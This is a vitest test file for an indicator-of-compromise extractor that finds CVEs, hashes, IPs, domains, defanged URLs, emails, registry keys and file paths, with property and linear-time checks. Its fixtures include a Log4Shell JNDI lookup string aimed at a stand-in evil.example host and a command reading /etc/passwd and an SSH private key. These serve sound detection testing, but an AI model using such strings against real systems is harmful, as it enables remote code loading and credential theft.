// Rule-found indicators: what counts, what does not, in plain and defanged form; exact slices, no overlaps, linear time.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { findIndicators } from "../../../extension/inference/indicators.ts";
import { quoteMatches } from "../../../shared/span.ts";

const found = (text: string) =>
  findIndicators(text).map(({ label, quote, refanged }) => [label, quote, ...(refanged ? [refanged] : [])].join(" "));
const md5 = "d41d8cd98f00b204e9800998ecf8427e";
const sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

describe("findIndicators finds", () => {
  it.each<[string, string[]]>([
    ["CVE-2021-44228 and cve_2024_3094.", ["cve CVE-2021-44228", "cve cve_2024_3094 CVE-2024-3094"]],
    ["CVE‑2023‑4863 (CWE-787)", ["cve CVE‑2023‑4863 CVE-2023-4863", "cwe CWE-787"]],
    ["T1566.001, TA0043 and T1059", ["attack T1566.001", "attack TA0043", "attack T1059"]],
    [`md5=${md5}; ${sha256.toUpperCase()}`, [`md5 ${md5}`, `sha256 ${sha256.toUpperCase()}`]],
    [
      `sha1:${"da39a3ee5e6b4b0d3255bfef95601890afd80709"} ${sha256}${sha256}`,
      ["sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709", `sha512 ${sha256}${sha256}`],
    ],
    ["src=192.0.2.7:443 to 203[.]0[.]113[.]9", ["ipv4 192.0.2.7", "ipv4 203[.]0[.]113[.]9 203.0.113.9"]],
    [
      "2001:db8::1, [2001:db8:0:1::17]:443 and 2001[:]db8[:][:]5",
      ["ipv6 2001:db8::1", "ipv6 2001:db8:0:1::17", "ipv6 2001[:]db8[:][:]5 2001:db8::5"],
    ],
    ["::ffff:192.0.2.1 came in", ["ipv6 ::ffff:192.0.2.1"]],
    ["beacons to evil.example.", ["domain evil.example"]],
    [
      "evil[.]example, evil(.)test, evil{.}invalid, c2[dot]evil[dot]example",
      [
        "domain evil[.]example evil.example",
        "domain evil(.)test evil.test",
        "domain evil{.}invalid evil.invalid",
        "domain c2[dot]evil[dot]example c2.evil.example",
      ],
    ],
    [
      "a1b2c3d4e5f6g7h8.onion and xn--bcher-kva.example and bücher.example",
      ["domain a1b2c3d4e5f6g7h8.onion", "domain xn--bcher-kva.example", "domain bücher.example"],
    ],
    ["(see https://example.com/a_(b)?x=1#y).", ["url https://example.com/a_(b)?x=1#y"]],
    ["hxxps[://]login[.]example[/]reset", ["url hxxps[://]login[.]example[/]reset https://login.example/reset"]],
    [
      "hXXp://203[.]0.113.7:8080/x.php, fxp://files.example/a",
      ["url hXXp://203[.]0.113.7:8080/x.php http://203.0.113.7:8080/x.php", "url fxp://files.example/a ftp://files.example/a"],
    ],
    ['<https://example.com/a>, "http://b.example"', ["url https://example.com/a", "url http://b.example"]],
    ["http://a.example,http://b.example", ["url http://a.example", "url http://b.example"]],
    ["$" + "{jndi:ldap://evil.example:1389/Exploit}", ["url ldap://evil.example:1389/Exploit"]],
    ["open login[.]example/verify now", ["url login[.]example/verify login.example/verify"]],
    [
      'From: "IT" <it-support@mail.example>, user[at]evil[.]example',
      ["email it-support@mail.example", "email user[at]evil[.]example user@evil.example"],
    ],
    ["mailto:first.last+tag@example.co.uk!", ["email first.last+tag@example.co.uk"]],
    [
      "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run was set",
      ["registry_key HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run"],
    ],
    ["HKEY_CURRENT_USER\\Environment", ["registry_key HKEY_CURRENT_USER\\Environment"]],
    ["ran C:\\Program Files (x86)\\Acme Tool\\run.exe /s", ["file_path C:\\Program Files (x86)\\Acme Tool\\run.exe"]],
    ['"C:\\Users\\ana\\My Files\\the invoice.exe"', ["file_path C:\\Users\\ana\\My Files\\the invoice.exe"]],
    ['{"path":"C:\\\\Temp\\\\a.dll"}', ["file_path C:\\\\Temp\\\\a.dll"]],
    ["\\\\FS-02\\finance$\\q3.xlsx, %APPDATA%\\x\\y.dll", ["file_path \\\\FS-02\\finance$\\q3.xlsx", "file_path %APPDATA%\\x\\y.dll"]],
    [
      "cat /etc/passwd; ls ~/.ssh/id_rsa /var/log/auth.log.",
      ["file_path /etc/passwd", "file_path ~/.ssh/id_rsa", "file_path /var/log/auth.log"],
    ],
    ["in C:\\Program Files (x86) directory", ["file_path C:\\Program Files (x86)"]],
    ["(localhost/127.0.0.1:62) net 192.0.2.9-198.51.100.9", ["ipv4 127.0.0.1", "ipv4 192.0.2.9", "ipv4 198.51.100.9"]],
    ["C:\\Temp and D:\\Data", ["file_path C:\\Temp", "file_path D:\\Data"]],
  ])("%j", (text, expected) => {
    expect(found(text)).toEqual(expected);
  });
});

describe("findIndicators leaves alone", () => {
  it.each([
    "version 1.2.3.4",
    "Chrome Version       : 2.0.172.31",
    "SeaMonkey 2.53.17.1, SeaMonkey/2.53.17.1, seamonkey-2.53.17.1",
    "upgraded to 1.0.154.48",
    "2.0.181.0 (Developer Build)",
    "derby-10.2.1.4.jar 10.2.1.4.jar 10.2.2.0-beta",
    "cashbook_nov.xlsx.play budget.pdf.zip at Thread.java:748 log4j.properties client.mk libnss3.so browser.cc event.target",
    "v10.0.19045",
    "Build: 10.0.1.5",
    "Chrome/98.0.4.2 Safari/1.2.3.4",
    "1.2.3.4.5",
    "0.0.0.0",
    "01.02.03.04",
    "300.1.2.3",
    "report.docx, setup.exe and notes.final.zip",
    "System.Net.Http",
    "System.Net",
    "ASP.NET",
    "Node.js",
    "e.g. this, i.e. that",
    "stopped.it said no",
    "Done.It works",
    "user.name and session.id",
    "install.sh readme.md main.py",
    "com.acme.app",
    "EXAMPLE\\john.doe",
    "fs-02.corp.local",
    "co.uk",
    "12:30:45",
    "2026-03-04T02:11:07Z",
    "00:11:22:33:44:55",
    "50:06:01:60:3b:a0:11:22",
    "std::vector ab::cd face::bad",
    "1:2",
    "a".repeat(32),
    "1".repeat(32),
    "aAbBcCdDeEfF00112233445566778899",
    `${md5}a`,
    `${md5}==`,
    "T1000, T12345, X-T1059, T1059x",
    "CVE-21-1",
    "CWE-",
    "and/or TCP/IP 24/7",
    "/api/v1/users",
    "/dev/null",
    "C: drive",
    "me @home, 5@3",
    "a(.)b arr[.]x",
    "://",
    "http://",
    "hxxp:// ",
  ])("%j", (text) => {
    expect(found(text)).toEqual([]);
  });
});

describe("findIndicators", () => {
  it("keeps a range of addresses as addresses and a network as its address", () => {
    expect(found("198.51.100.0/24 or 192.0.2.1-192.0.2.20, outside:203.0.113.5/443")).toEqual([
      "ipv4 198.51.100.0",
      "ipv4 192.0.2.1",
      "ipv4 192.0.2.20",
      "ipv4 203.0.113.5",
    ]);
  });

  const nasty = fc.array(
    fc.oneof(
      fc.string({ unit: "binary", maxLength: 6 }),
      fc.constantFrom(
        "hxxp",
        "http",
        "://",
        "[.]",
        "[at]",
        "[:]",
        "@",
        ".",
        "..",
        "/",
        "\\",
        "\\\\",
        ":",
        "::",
        "C:\\",
        "HKLM\\",
        "%TEMP%\\",
        "/etc/",
        "evil",
        "example",
        "com",
        "203.0.113.7",
      ),
      fc.constantFrom(
        "\ud83d",
        "\udc00",
        "😀",
        "\u0301",
        "CVE-2021-44228",
        md5,
        "(",
        ")",
        "[",
        "]",
        '"',
        " ",
        "\n",
        "www.",
        "2001:db8",
        "ä",
      ),
    ),
    { maxLength: 40 },
  );

  it("returns exact slices, sorted and without overlaps, for any text", () => {
    fc.assert(
      fc.property(nasty, (parts) => {
        const text = parts.join("");
        let last = 0;
        for (const span of findIndicators(text)) {
          expect(quoteMatches(text, span)).toBe(true);
          expect(span.start).toBeGreaterThanOrEqual(last);
          last = span.end;
        }
      }),
      { numRuns: 1500 },
    );
  });

  // Sixteen times the text takes about sixteen times as long; quadratic work would take 256 times.
  it.each([
    "a",
    "a.",
    "-.",
    "0",
    "f",
    ":",
    "1:",
    ".",
    "@",
    "a@",
    "://",
    "http://",
    "http://a.example/",
    "a.example/",
    "http://(",
    "a[.]",
    "[.]",
    "\\",
    "C:\\",
    "C:\\a b\\",
    "\\\\a\\",
    "HKLM\\",
    "/etc/",
    "~/",
    "1.2.3.4",
    "1.2.3.4:80/a/",
    "CVE-",
    "a ",
    `${"a".repeat(63)}@`,
    "%TEMP%\\",
    "www.",
    "((((",
    "x://y",
    '"C:\\',
  ])("takes linear time on %j repeated", (unit) => {
    const time = (length: number) => {
      const text = unit.repeat(Math.ceil(length / unit.length));
      const began = performance.now();
      findIndicators(text);
      return performance.now() - began;
    };
    time(8_000);
    const small = Math.min(time(8_000), time(8_000));
    expect(Math.min(time(128_000), time(128_000)) / Math.max(0.5, small)).toBeLessThan(90);
  });
});
